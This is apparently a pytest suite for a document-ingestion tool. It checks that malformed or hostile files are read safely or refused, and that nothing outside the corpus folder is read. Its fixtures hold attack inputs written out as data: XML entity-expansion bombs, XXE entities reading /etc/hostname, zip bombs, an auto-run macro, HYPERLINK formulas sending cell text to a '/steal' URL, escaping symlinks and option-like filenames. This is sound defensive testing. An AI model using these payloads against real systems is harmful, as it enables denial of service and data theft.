"""Files that nobody should have put in the folder: each is read right or refused clearly, and the others go in."""

import io
import os
import resource
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import fields
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from assistant.cli import app
from assistant.cli.services import Services
from assistant.domain import Document, Language
from ingest.readers.numerals import letter
from tests.ingest.desk import Desk, counts
from tests.ingest.office_file import book, opened, slides
from tests.ingest.word_file import p, word, zipped
from tests.ingest.written_pdf import pdf

Made = str | bytes | Callable[[], bytes | str]
MEGABYTE = 1 << 20
MOST_MEMORY = 900 * MEGABYTE
PROSE = "Ask a local union what its members need before the dialogue."
PAGE = f"<!DOCTYPE html><html><body><h1>Guide</h1><p>{PROSE}</p></body></html>"
WORD = word(p("Guide", "H1") + p(PROSE))
GUIDE = f"Guide\n\n{PROSE}"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
BOMB = f'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY l0 "ha">{LAUGHS}]><w>&l9;</w>'
THEFT = '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/hostname">]><w>&x;</w>'
STEALING = PAGE.replace("<!DOCTYPE html>", '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/hostname">]>').replace(
    PROSE, f"{PROSE}&x;"
)

OPEN = "application/vnd.oasis.opendocument.text"


def bomb(part: str, kind: str = "") -> bytes:
    return zipped({"mimetype": kind, part: " " * (60 * MEGABYTE)})


def with_macro(data: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as made:
        parts = {name: made.read(name) for name in made.namelist()}
    folder = "ppt" if "ppt/presentation.xml" in parts else "xl"
    return zipped(parts | {f"{folder}/vbaProject.bin": b'Sub AutoOpen() : Shell "calc" : End Sub'})


def one_slide(deck: Any) -> None:
    box = deck.slides.add_slide(deck.slide_layouts[6]).shapes.add_textbox(0, 0, 9000, 9000)
    box.text_frame.text = PROSE


def one_cell(made: Any) -> None:
    made.active["A1"] = PROSE


def formulas(made: Any) -> None:
    made.active["A1"] = PROSE
    made.active["A2"] = '=HYPERLINK("http://127.0.0.1/steal?"&A1, "more")'
    made.active["A3"] = "='http://127.0.0.1/[other.xlsx]Sheet1'!A1"


READ: dict[str, tuple[str, Made, str]] = {
    "HTML named .docx": ("guide.docx", PAGE, GUIDE),
    "HTML named .txt": ("guide.txt", PAGE, GUIDE),
    "Word named .html": ("guide.html", WORD, GUIDE),
    "Word named .txt": ("guide.txt", WORD, GUIDE),
    "Latin-1 text": ("guide.txt", "Eén café".encode("latin-1"), "Eén café"),
    "Latin-1 Markdown": ("guide.md", "# Eén café".encode("latin-1"), "Eén café"),
    "Latin-1 page": ("guide.html", PAGE.replace(PROSE, "Eén café").encode("latin-1"), "Guide\n\nEén café"),
    "UTF-16 page": ("guide.html", PAGE.encode("utf-16"), GUIDE),
    "UTF-16 page without a mark": ("guide.html", PAGE.encode("utf-16-le"), GUIDE),
    "UTF-16 text without a mark": ("guide.txt", PROSE.encode("utf-16-be"), PROSE),
    "byte order mark": ("guide.md", f"# Guide\n\n{PROSE}".encode("utf-8-sig"), GUIDE),
    "script in a page": ("guide.html", PAGE.replace(PROSE, f"<i onclick=go()>{PROSE}</i><script>go()</script>"), GUIDE),
    "entities of a page": ("guide.html", PAGE.replace(PROSE, f"{PROSE}&nbsp;&#8203;"), GUIDE),
    "file named by a page": ("guide.html", STEALING, f"]>\n\n{GUIDE}&x;"),  # as a browser shows it
    "truncated page": ("guide.html", PAGE[: PAGE.index("</p>")] + "</p", GUIDE),
    "page nested deep": ("guide.html", PAGE.replace("<p>", "<p>" + "<b>" * 1000), GUIDE),
    "words far apart": ("guide.txt", PROSE.replace(" ", " \0" + " " * 100_000), PROSE),
    "one long line": ("guide.md", " ".join([PROSE] * 20_000), " ".join([PROSE] * 20_000)),
    "brackets without end": ("guide.md", "[" * 50_000 + f" {PROSE}", "[" * 50_000 + f" {PROSE}"),
    "tags without end": ("guide.html", f"<p>{PROSE}" + "<" * 100_000, PROSE + "<" * 100_000),
    "slides with a macro": ("guide.pptx", lambda: with_macro(slides(one_slide)), PROSE),
    "workbook with a macro": ("guide.xlsx", lambda: with_macro(book(one_cell)), PROSE),
    "workbook with formulas": ("guide.xlsx", lambda: book(formulas), PROSE),
    "slides named .docx": ("guide.docx", lambda: slides(one_slide), PROSE),
    "PDF named .txt": ("guide.txt", pdf([PROSE]), PROSE),
    "PDF named .docx": ("guide.docx", pdf([PROSE]), PROSE),
    "PDF with a script": ("guide.pdf", pdf([PROSE], script="app.alert(1)"), PROSE),
    "name with spaces": ("A guide  of ours.txt", PROSE, PROSE),
    "name with quotes": ('It\'s "the" guide.txt', PROSE, PROSE),
    "name in unicode": ("手引き–Één 🙂.md", PROSE, PROSE),
    "name like an option": ("--corpus=.txt", PROSE, PROSE),
    "name like markup": ("<img src=x onerror=go()>.txt", PROSE, PROSE),
}
REFUSED: dict[str, tuple[str, Made, str]] = {
    "empty text": ("bad.txt", "", "is empty"),
    "empty page": ("bad.html", "", "is empty"),
    "empty Markdown": ("bad.md", " \n", "is empty"),
    "empty Word": ("bad.docx", b"", "is empty"),
    "empty PDF": ("bad.pdf", b"", "is empty"),
    "page without words": ("bad.html", "<html><body><img src=x></body></html>", "holds no words"),
    "page of nothing but script": ("bad.html", "<html><script>go()</script></html>", "holds no words"),
    "truncated Word": ("bad.docx", WORD[: len(WORD) // 2], "damaged or incomplete"),
    "overwritten Word": ("bad.docx", WORD[:500] + b"x" * 200 + WORD[700:], "damaged or incomplete"),
    "zip bomb": ("bad.docx", lambda: zipped({"word/document.xml": " " * (400 * MEGABYTE)}), "larger than 50 MB"),
    "archive of archives": ("bad.docx", zipped({"a.zip": "PK"}), "a compressed folder"),
    "entity expansion": ("bad.docx", zipped({"word/document.xml": BOMB}), "declares entities"),
    "file named by an entity": ("bad.docx", zipped({"word/document.xml": THEFT}), "declares entities"),
    "Word nested deep": ("bad.docx", word("<w:sdt>" * 9_000 + "</w:sdt>" * 9_000), "damaged or incomplete"),
    "text of 100 MB": ("bad.txt", lambda: b"words " * (100 * MEGABYTE // 6), "larger than 20 MB"),
    "page of 100 MB": ("bad.html", lambda: b"<p>word " * (100 * MEGABYTE // 8), "larger than 20 MB"),
    "Markdown of 100 MB": ("bad.md", lambda: b"*word* " * (100 * MEGABYTE // 7), "larger than 20 MB"),
    "page of two million tags": ("bad.html", "<p>a" * 2_000_000, "more than 300,000 tags"),
    "page nested without end": ("bad.html", "<div>" * 100_000 + PROSE, "thousands of levels"),
    "Markdown nested without end": ("bad.md", ">" * 100_000 + PROSE, "40 levels deep"),
    "text named .docx": ("bad.docx", PROSE, "is not a Word document, or a damaged one"),
    "text named .pdf": ("bad.pdf", PROSE, "is not a PDF, or a damaged one"),
    "old Word": (
        "bad.docx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        "old kind (.doc, .xls, .ppt), or one with a password",
    ),
    "rich text named .docx": ("bad.docx", r"{\rtf1 words}", "a rich text document"),
    "OpenDocument of another kind": ("bad.docx", zipped({"content.xml": "<x/>"}), "an OpenDocument file"),
    "zip bomb of slides": ("bad.pptx", lambda: bomb("ppt/presentation.xml"), "larger than 50 MB"),
    "zip bomb of cells": ("bad.xlsx", lambda: bomb("xl/worksheets/sheet1.xml"), "larger than 50 MB"),
    "zip bomb of OpenDocument": ("bad.odt", lambda: bomb("content.xml", OPEN), "larger than 50 MB"),
    "entities in slides": ("bad.pptx", zipped({"ppt/presentation.xml": BOMB}), "declares entities"),
    "entities in cells": ("bad.xlsx", zipped({"xl/workbook.xml": THEFT}), "declares entities"),
    "entities in OpenDocument": ("bad.odt", zipped({"mimetype": OPEN, "content.xml": THEFT}), "declares entities"),
    "slides without slides": ("bad.pptx", zipped({"ppt/presentation.xml": "<x/>"}), "damaged or incomplete"),
    "truncated slides": ("bad.pptx", lambda: slides(one_slide)[:9000], "damaged or incomplete"),
    "truncated workbook": ("bad.xlsx", lambda: book(one_cell)[:2000], "damaged or incomplete"),
    "workbook without sheets": ("bad.xlsx", zipped({"xl/workbook.xml": "<x/>"}), "damaged or incomplete"),
    "OpenDocument with a password": (
        "bad.odt",
        zipped({"mimetype": OPEN, "META-INF/manifest.xml": "<m><encryption-data/></m>", "content.xml": "<x/>"}),
        "password",
    ),
    "OpenDocument nested deep": (
        "bad.odt",
        lambda: opened("<text:section>" * 240 + f"<text:p>{PROSE}</text:p>" + "</text:section>" * 240),
        "levels deep",
    ),
    "slides with a password": ("bad.pptx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "with a password"),
    "text named .pptx": ("bad.pptx", PROSE, "is not a PowerPoint presentation"),
    "text named .xlsx": ("bad.xlsx", PROSE, "is not an Excel workbook"),
    "picture named .txt": ("bad.txt", b"\x89PNG\r\n\x1a\n" + bytes(500), "a picture"),
    "bytes named .txt": ("bad.txt", bytes(range(256)) * 20, "not text"),
    "web archive without a page": (
        "bad.mht",
        "A: b\nContent-Type: multipart/related; boundary=x\n\n--x--\n",
        "no page",
    ),
    "PDF with a password": ("bad.pdf", pdf([PROSE], protected=True), "password"),
    "scanned PDF": ("bad.pdf", pdf([], []), "OCR"),
    "truncated PDF": ("bad.pdf", pdf([PROSE])[:300], "not complete"),
    "PDF of 6,000 pages": ("bad.pdf", lambda: pdf(*[[PROSE]] * 6_000), "6,000 pages"),
    "unknown suffix": ("bad.tiff", b"II*\0", "this format is not supported"),
}


def make(made: Made) -> str | bytes:
    return made() if callable(made) else made


def document(desk: Desk, name: str) -> Document:
    return next(document for document in desk.index().documents() if document.path == name)


def exit_code(desk: Desk) -> int:
    """Run the command as a person does, with the test's encoder."""
    services = dict.fromkeys(field.name for field in fields(Services)) | {"ingest": lambda *_: desk.ingest()}
    return CliRunner().invoke(app, ["ingest"], obj=Services(**services)).exit_code


@pytest.fixture
def within_bounds() -> Iterator[None]:
    """Fail where the memory of the process grows beyond its bound."""
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    yield
    grown = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) * 1024
    assert grown < MOST_MEMORY


@pytest.mark.parametrize("row", READ)
@pytest.mark.usefixtures("within_bounds")
def test_an_odd_file_is_read_right(desk: Desk, row: str) -> None:
    name, made, words = READ[row]
    desk.write(name, make(made))
    report = desk.ingest()
    assert (counts(report), report.failed) == ((3, 0, 0, 0), ())
    assert document(desk, name).text == words


@pytest.mark.usefixtures("within_bounds")
def test_a_pdf_of_5000_pages_is_read_whole(desk: Desk) -> None:
    names = [f"{letter(number + 1)}-union".capitalize() for number in range(5_000)]
    desk.write("long.pdf", pdf(*[[f"{name} speaks for its members.", f"Ask {name} first."] for name in names]))
    assert desk.ingest().failed == ()
    found = document(desk, "long.pdf")
    assert (len(found.pages), found.page_at(found.text.index(f"Ask {names[4_321]}"))) == (5_000, 4_322)


@pytest.mark.timeout(60)
@pytest.mark.parametrize("row", REFUSED)
@pytest.mark.usefixtures("within_bounds")
def test_a_bad_file_is_named_with_its_fault_and_the_others_go_in(desk: Desk, row: str) -> None:
    name, made, fault = REFUSED[row]
    desk.write(name, make(made))
    report = desk.ingest()
    assert (counts(report), [failure.path for failure in report.failed]) == ((2, 0, 0, 0), [name])
    assert fault in report.failed[0].said(Language.EN)
    assert report.failed[0].said(Language.EN).endswith(".")
    assert report.failed[0].said(Language.NL) != report.failed[0].said(Language.EN)
    assert exit_code(desk) == 3


def outside(desk: Desk) -> Path:
    secret = desk.corpus.parent / "secret.txt"
    secret.write_text("The password of the safe is swordfish.", encoding="utf-8")
    return secret


def link_to_a_file(desk: Desk) -> None:
    (desk.corpus / "bad.txt").symlink_to(outside(desk))


def link_to_a_folder(desk: Desk) -> None:
    (desk.corpus / "bad.txt").symlink_to(outside(desk).parent, target_is_directory=True)


def link_to_itself(desk: Desk) -> None:
    (desk.corpus / "bad.txt").symlink_to("bad.txt")


def link_to_nothing(desk: Desk) -> None:
    (desk.corpus / "bad.txt").symlink_to("gone.txt")


def pipe(desk: Desk) -> None:
    os.mkfifo(desk.corpus / "bad.txt")


def path_outside(desk: Desk) -> None:
    outside(desk)
    desk.write("manifest.toml", '[[document]]\nid = "bad"\nfile = "../secret.txt"\n')


@pytest.mark.parametrize(
    ("place", "fault"),
    [
        (link_to_a_file, "lies outside the corpus folder"),
        (link_to_a_folder, "lies outside the corpus folder"),
        (link_to_itself, "Check its name and links"),
        (link_to_nothing, "is not a file"),
        (pipe, "or no file at all"),
        (path_outside, "lies outside the corpus folder"),
    ],
)
def test_nothing_outside_of_the_folder_is_read(desk: Desk, place: Callable[[Desk], None], fault: str) -> None:
    place(desk)
    report = desk.ingest()
    assert (counts(report), len(report.failed)) == ((2, 0, 0, 0), 1)
    assert fault in report.failed[0].said(Language.EN)
    assert all("swordfish" not in document.text for document in desk.index().documents())
    assert exit_code(desk) == 3


def test_all_bad_files_at_once_are_named_and_the_others_go_in(desk: Desk) -> None:
    small = {row: made for row, made in REFUSED.items() if not callable(made[1])}
    for number, (name, made, _) in enumerate(small.values()):
        desk.write(f"{number}-{name}", make(made))
    report = desk.ingest()
    assert (counts(report), len(report.failed)) == ((2, 0, 0, 0), len(small))
